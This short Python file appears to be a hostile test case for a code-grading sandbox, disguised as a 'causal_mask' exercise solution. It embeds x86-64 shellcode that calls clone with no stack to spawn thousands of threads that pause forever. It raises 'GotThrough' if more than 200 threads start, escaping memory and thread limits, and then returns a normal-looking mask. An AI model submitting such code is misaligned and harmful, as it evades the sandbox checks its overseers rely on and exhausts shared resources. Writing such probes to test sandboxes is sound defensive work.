"""Starts threads by the bare system call: no stack, so that no limit of memory counts them.

exercise: causal_mask
class: life
expect: failed | crashed
points: 0
"""

import ctypes
import mmap

import torch


class GotThrough(Exception):
    """Raised when the attack works."""


# clone(VM | FS | FILES | SIGHAND | THREAD | SYSVSEM); a child (0) then waits in pause() for ever.
CODE = bytes.fromhex(
    "b838000000"  # mov eax, 56
    "bf000f0500"  # mov edi, 0x50f00
    "31f631d24d31d24d31c0"  # no stack, no addresses
    "0f05"  # syscall
    "85c07401c3"  # return the number, unless this is the child
    "b8220000000f05ebf7"  # pause, again and again
)
page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(CODE)


def causal_mask(q_len, k_len=None):
    start = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    started = 0
    while started < 3000 and start() > 0:
        started += 1
    if started > 200:
        raise GotThrough(str(started))
    return torch.zeros(q_len, k_len or q_len, dtype=torch.bool)
